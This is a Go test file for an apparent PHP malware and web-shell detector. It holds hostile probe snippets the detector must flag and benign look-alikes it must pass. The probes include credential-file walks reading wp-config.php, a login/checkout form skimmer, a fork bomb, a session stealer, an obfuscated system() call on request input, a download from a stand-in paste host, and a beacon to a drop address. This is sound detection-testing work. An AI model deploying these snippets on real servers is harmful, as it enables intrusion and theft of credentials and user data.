package php

import (
	"encoding/base64"
	"encoding/hex"
	"strings"
	"testing"
)

// doubled writes the bytes above 100 of s doubled, which the probe's
// decoder halves back.
func doubled(s string) string {
	b := []byte(s)
	for i, c := range b {
		if c > 100 {
			b[i] = c * 2
		}
	}
	return string(b)
}

// fakePE is the start of a Windows executable's header (MZ, the PE
// header's offset, the PE signature), padded: no program.
var fakePE = func() []byte {
	b := make([]byte, 768)
	copy(b, "MZ")
	b[0x3c] = 0x40
	copy(b[0x40:], "PE\x00\x00")
	return b
}()

// recallProbes are reconnaissance and module constructs written for these
// tests (never run): each must be reported with the rule given.
var recallProbes = []struct{ name, rule, src string }{
	{"writable directory finder", "php.writable-scan", `<form><input name="dir"></form><?php
		function scan($d) { if ($h = opendir($d)) { while (($f = readdir($h)) !== false) {
			if ($f != "." && $f != ".." && is_dir($d . "/" . $f)) { if (is_writable($d . "/" . $f)) { echo $d . $f . " writable<br>"; } scan($d . "/" . $f . "/"); } } } }
		if (isset($_GET['dir'])) { scan($_GET['dir']); }`},
	{"account walk", "php.account-walk", `<?php $p = fopen('/etc/passwd', 'r'); while (!feof($p)) { $u = substr(fgets($p), 0, 5);
		$dir = "/home/$u/public_html/"; if (is_readable($dir . "wp-config.php")) { echo file_get_contents($dir . "wp-config.php"); } }`},
	{"account walk by command", "php.account-walk", `<?php foreach (file('/etc/passwd') as $l) { $s = explode(":", $l); exec('ln -s /home/' . $s[0] . '/public_html ' . $s[0]); }`},
	{"curl file URL", "php.file-read-bypass", `<?php $c = curl_init(); curl_setopt($c, CURLOPT_URL, "file:///" . $_POST['file']); curl_exec($c);`},
	{"curl_init file URL", "php.file-read-bypass", `<?php $c = curl_init('file://' . $_GET['f']); curl_exec($c);`},
	{"module mailer", "php.mailer", `<?php $GLOBALS['module']['m']['content'] = "<input type='text' id='mFrom'><input id='mTo'><input id='mSubject'><textarea id='mBody'></textarea>";
		function send($from, $to, $subject, $body) { return mail($to, $subject, $body, "From: " . $from); }
		if (isset($p['mTo'])) { send(trim($p['mFrom']), trim($p['mTo']), trim($p['mSubject']), $p['mBody']); }`},
	{"module packet sender", "php.net-relay", `<?php $GLOBALS['module']['n']['content'] = "<input id='host'><input id='port'><textarea id='data'></textarea>";
		if (isset($p['host'])) { $s = fsockopen(trim($p['host']), (int) $p['port'], $no, $err, 5); fwrite($s, $p['data'] . "\r\n\r\n"); echo fgets($s, 1024); }`},
	{"http tunnel", "php.tunnel", `<?php $h = getallheaders(); if ($h['X-Cmd'] == 'CONNECT') { $s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
		$port = (int) $h['X-Port']; socket_connect($s, $h['X-Target'], $port); } else { socket_write($s, file_get_contents('php://input')); }`},
	{"form data kept as an image", "php.form-logger", `<?php if (preg_match('/checkout|login/', $_SERVER['REQUEST_URI'])) {
		@file_put_contents('media/catalog/x/1.png', base64_encode(json_encode($_POST)) . "\n", FILE_APPEND); }`},
	{"fork bomb", "php.fork-bomb", `<?php while (1) pcntl_fork();`},
	{"fork bomb in braces", "php.fork-bomb", `<?php for (;;) { @pcntl_fork(); }`},
	{"chmod of any path", "php.chmod-input", `<?php $p = stripslashes($_GET['path']); if (chmod($p, 0777)) { echo "ok"; }`},
	{"connection handoff", "php.connection-handoff", `<?php system("./fs " . $_SERVER['REMOTE_ADDR'] . " " . $_SERVER['REMOTE_PORT']);`},
	{"iis metabase", "php.iis-metabase", `<?php $o = new COM("IIS://localhost/w3svc"); foreach ($o as $s) { $r = new COM("IIS://localhost/w3svc/" . $s->Name . "/Root"); echo $r->AnonymousUserPass; }`},
	{"download and back-date", "php.infector", `<?php function put($dir, $name, $ref, $url) { shell_exec('curl -o ' . $dir . $name . ' ' . $url); shell_exec('touch -r ' . $dir . $ref . ' ' . $dir . $name); }
		put(getcwd() . '/app/', 'Cc.php', 'Abstract.php', 'http://paste.invalid/raw/x');`},
	{"udf library in hex", "php.native-binary", `<?php function lib() { return "0x` + hex.EncodeToString(fakePE) + `"; } mysql_query("SELECT " . lib() . " INTO DUMPFILE 'udf.dll'");`},
	{"executable in base64", "php.native-binary", `<?php $b = '` + base64.StdEncoding.EncodeToString(fakePE) + `';`},
	{"location beacon", "php.location-beacon", `<?php $r = $_SERVER['HTTP_REFERER']; $d = $_SERVER['DOCUMENT_ROOT']; $f = $_SERVER['SCRIPT_FILENAME'];
		$to = "drop@example.invalid"; $m = "$r\n$d\n$f"; mail($to, "sh", $m, "From: $to");`},
	{"decoder calling builtins through variables", "php.exec-input", `<?php function d($s, $k = '') { global $t; if (!$k) return base64_decode($s);
		$o = d('b3Jk'); $c = d('Y2hy'); $r = ''; for ($i = 0; $i < strlen($s); $i++) $r .= $o($s{$i}) > 200 ? $c($o($s{$i}) / 2) : $s{$i};
		return base64_decode($r); } $f = d('` + doubled(base64.StdEncoding.EncodeToString([]byte("system"))) + `', 'k'); $f($_GET['c']);`},
	{"headers of a polyfill", "php.exec-input", `<?php if (!function_exists('getallheaders')) { function getallheaders() { $h = array(); foreach ($_SERVER as $k => $v) { $h[$k] = $v; } return $h; } }
		$h = getallheaders(); system($h['X-Run']);`},
	{"listener on the request's address", "php.listen-input", `<?php $ip = $_GET['listen_ip']; $s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP); socket_bind($s, $ip, 80); socket_listen($s);
		while (true) { $c = socket_accept($s); }`},
	{"session stealer", "php.session-theft", `<?php if ($d = opendir("/tmp")) { while (($f = readdir($d))) { if (substr($f, 0, 5) == "sess_") {
		$h = fopen("/tmp/$f", 'r'); while (!feof($h)) { $all .= fgets($h, 1024); } fclose($h); } } } echo htmlspecialchars($all);`},
}

// recallBenign are look-alikes from real applications: none may be
// reported.
var recallBenign = []struct{ name, src string }{
	{"installer permission check", `<?php function check($d) { foreach (scandir($d) as $f) { if ($f[0] != '.' && is_dir("$d/$f")) { echo $f, is_writable("$d/$f") ? ' ok' : ' not writable'; check("$d/$f"); } } }
		check(__DIR__ . '/cache');`},
	{"file manager under its root", `<?php $base = '/var/www/files/'; $d = $base . str_replace('..', '', $_GET['dir']); foreach (scandir($d) as $f) { echo $f, is_writable($d . '/' . $f) ? ' w' : ''; }`},
	{"writable flag of the folder shown", `<?php $d = $_GET['dir']; echo is_writable($d) ? 'writable' : 'read-only'; foreach (scandir('/var/www/files') as $f) { echo $f; }`},
	{"account name of the process", `<?php $u = posix_getpwuid(posix_geteuid()); $home = '/home/' . $u['name']; echo htmlspecialchars($home);`},
	{"passwd mentioned", `<?php /* refuse paths such as /etc/passwd */ if (strpos($_GET['f'], '..') !== false) { die('no'); } readfile('docs/' . basename($_GET['f']));`},
	{"curl of a web URL", `<?php $c = curl_init(); curl_setopt($c, CURLOPT_URL, 'https://api.example.com/v1/items?q=' . urlencode($_GET['q'])); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); echo curl_exec($c);`},
	{"view of a controller", `<form method="post"><input name="email" id="email"><input name="subject"></form><?php
		if ($data['email']) { mail('owner@example.com', $data['subject'], $data['email']); }`},
	{"template reading its variables", `<input id="title" value="<?php echo htmlspecialchars($vars['title']); ?>"><?php file_put_contents('cache/' . md5($vars['title']) . '.html', $vars['title']);`},
	{"smtp check to the configured server", `<?php $s = fsockopen($config['smtp_host'], 25, $no, $err, 5); fwrite($s, "EHLO " . $_SERVER['SERVER_NAME'] . "\r\n"); echo fgets($s, 512);`},
	{"port check API", `<?php $d = json_decode(file_get_contents('php://input'), true); $s = @fsockopen($d['host'], (int) $d['port'], $no, $err, 3);
		echo json_encode(array('up' => (bool) $s)); if ($s) { fclose($s); }`},
	{"smtp check of a form's server", `<?php $d = json_decode(file_get_contents('php://input'), true); $s = fsockopen($d['smtp_host'], 587, $no, $err, 5); fwrite($s, "EHLO example.com\r\n"); echo fgets($s, 512);`},
	{"payment notification log", `<?php file_put_contents(__DIR__ . '/logs/ipn.log', date('c') . ' ' . print_r($_POST, true), FILE_APPEND);`},
	{"canvas image saved", `<?php file_put_contents('uploads/drawing.png', base64_decode($_POST['img']));`},
	{"pre-forking server", `<?php while (true) { $pid = pcntl_fork(); if ($pid == 0) { serve(); exit(0); } pcntl_wait($status); }`},
	{"fork once per job", `<?php foreach ($jobs as $j) { pcntl_fork(); }`},
	{"chmod of the upload directory", `<?php $d = __DIR__ . '/uploads/' . basename($_GET['dir']); chmod($d, 0777); chmod($_POST['file'], octdec($_POST['mode']));`},
	{"visitor address logged by a command", `<?php exec('logger -t app ' . escapeshellarg($_SERVER['REMOTE_ADDR']));`},
	{"office automation", `<?php $w = new COM("Word.Application"); $w->Visible = 0; $w->Documents->Open(realpath('a.docx'));`},
	{"cache warm-up download", `<?php shell_exec('curl -s -o cache/feed.xml https://example.com/feed.xml'); touch('cache/feed.xml');`},
	{"image in base64", `<?php $png = '` + base64.StdEncoding.EncodeToString(append([]byte("\x89PNG\r\n\x1a\n"), make([]byte, 900)...)) + `'; header('Content-Type: image/png'); echo base64_decode($png);`},
	{"hex table", `<?php $t = "` + strings.Repeat("4d5a0102", 300) + `";`},
	{"error notice", `<?php function fail($e) { mail('admin@example.com', 'Error', $e->getMessage() . " in " . $_SERVER['SCRIPT_FILENAME']); }
		$body = "Error " . $err . " at " . $_SERVER['DOCUMENT_ROOT']; mail('admin@example.com', 'Error', $body);`},
	{"install notice", `<?php mail('sales@vendor.example', 'New install', "Installed at " . $_SERVER['HTTP_HOST'] . $_SERVER['PHP_SELF']);`},
	{"callback helper", `<?php function apply($f, $x) { global $n; $n++; return $f($x); } $y = apply('strtoupper', 'abc'); echo apply('htmlspecialchars', $y);`},
	{"ftp active mode", `<?php $s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP); socket_bind($s, $this_host); socket_listen($s); $c = socket_accept($s);
		$srv = stream_socket_server("tcp://127.0.0.1:" . intval($config['port']));`},
	{"session clean-up", `<?php foreach (glob(session_save_path() . '/sess_*') as $f) { if (filemtime($f) < time() - 86400) { unlink($f); } }`},
	{"temporary file reader", `<?php $d = opendir('/tmp'); while ($f = readdir($d)) { if (substr($f, 0, 4) == 'upl_') { echo file_get_contents('/tmp/' . $f); } }`},
}

func TestRecallProbes(t *testing.T) {
	for _, p := range recallProbes {
		t.Run(p.name, func(t *testing.T) { expectRule(t, p.src, p.rule) })
	}
}

func TestRecallBenign(t *testing.T) {
	for _, b := range recallBenign {
		t.Run(b.name, func(t *testing.T) { expectClean(t, b.src) })
	}
}
